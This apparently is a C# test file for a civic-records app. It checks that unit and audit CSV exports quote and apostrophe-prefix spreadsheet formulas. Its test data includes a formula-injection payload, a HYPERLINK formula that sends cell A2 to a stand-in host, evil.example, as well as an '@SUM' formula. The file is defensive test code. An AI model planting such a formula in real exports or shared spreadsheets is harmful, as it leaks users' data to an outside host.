using System.Net;
using System.Net.Http.Json;
using System.Text;
using CivicTrack.Engine.Csv;
using CivicTrack.Features.Organisation;
using CivicTrack.Tests.Infrastructure;

namespace CivicTrack.Tests.Uploads;

/// <summary>CSV exports and formula injection (finding 5): a unit named like a formula comes out of the unit and audit
/// exports as text a spreadsheet will not run.</summary>
public abstract class CsvExportTests(SharedApp shared)
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private const string Evil = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Xem\")";

    private static List<CsvRecord> Parse(byte[] file)
    {
        Assert.True(CsvReader.TryDecodeUtf8(file, out var text, out _));
        return CsvReader.Parse(text);
    }

    private static void NoFormulaCells(IEnumerable<CsvRecord> records, params int[] numericColumns)
    {
        foreach (var r in records)
            for (var i = 0; i < r.Fields.Length; i++)
                if (!numericColumns.Contains(i) && r.Fields[i].Length > 0)
                    Assert.False(CsvWriter.IsFormulaStart(r.Fields[i][0]), $"line {r.Line}, field {i}: {r.Fields[i]}");
    }

    [Fact]
    public async Task A_unit_named_like_a_formula_is_exported_as_quoted_text_in_the_unit_and_audit_files()
    {
        var admin = await shared.App.SignedInAsync("admin@demo.local");
        var code = $"08051-9{Random.Shared.Next(10, 99)}";
        var created = await admin.PostAsJsonAsync("/api/org-units", new OrgUnitInput(code, Evil, "Village", "08051", null, null, null), Json.Options, Ct);
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var second = await admin.PostAsJsonAsync("/api/org-units", new OrgUnitInput(code + "a", "@SUM(1+1)", "Village", "08051", null, null, null), Json.Options, Ct);
        Assert.Equal(HttpStatusCode.Created, second.StatusCode);

        var units = await admin.GetByteArrayAsync("/api/org-units/export?format=csv", Ct);
        Assert.Contains("\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Xem\"\")\"", Encoding.UTF8.GetString(units), StringComparison.Ordinal);
        var records = Parse(units);
        Assert.Equal("'" + Evil, Assert.Single(records, r => r.Fields[0] == code).Fields[1]);
        Assert.Equal("'@SUM(1+1)", Assert.Single(records, r => r.Fields[0] == code + "a").Fields[1]);
        NoFormulaCells(records);

        var audit = await admin.GetAsync($"/api/audit?format=csv&entity={code}", Ct);
        Assert.Equal(HttpStatusCode.OK, audit.StatusCode);
        var entries = Parse(await audit.Content.ReadAsByteArrayAsync(Ct));
        Assert.Equal("unit_name", entries[0].Fields[6]);
        var entry = Assert.Single(entries.Skip(1), r => r.Fields[8] == code);
        Assert.Equal("'" + Evil, entry.Fields[6]);
        // The id is a number the app wrote: unquoted and unchanged.
        Assert.Matches("^[0-9]+$", entry.Fields[0]);
        NoFormulaCells(entries);
    }

    [Fact]
    public void Numbers_written_as_numbers_stay_negative_and_text_that_looks_negative_is_neutralised()
    {
        var csv = new CsvWriter("value", "label").Number(-12.5).Row("-12.5").Number(3L).Row("a,b \"c\"\r\nd");
        Assert.Equal("value,label\r\n-12.5,\"'-12.5\"\r\n3,\"a,b \"\"c\"\"\r\nd\"\r\n", csv.ToString());
        Assert.Equal("\"'\tx\"", CsvWriter.Cell("\tx"));
        Assert.Equal("\"'\rx\"", CsvWriter.Cell("\rx"));
        Assert.Equal("\"'+1\"", CsvWriter.Cell("+1"));
        Assert.Equal("Thượng Tân", CsvWriter.Cell("Thượng Tân"));
    }
}

[Collection(FilesOnSqlite.Sqlite)]
public sealed class CsvExportSqliteTests(SqliteDemoApp app) : CsvExportTests(app);

[Collection(FilesOnPostgres.Postgres)]
public sealed class CsvExportPostgresTests(PostgresDemoApp app) : CsvExportTests(app);
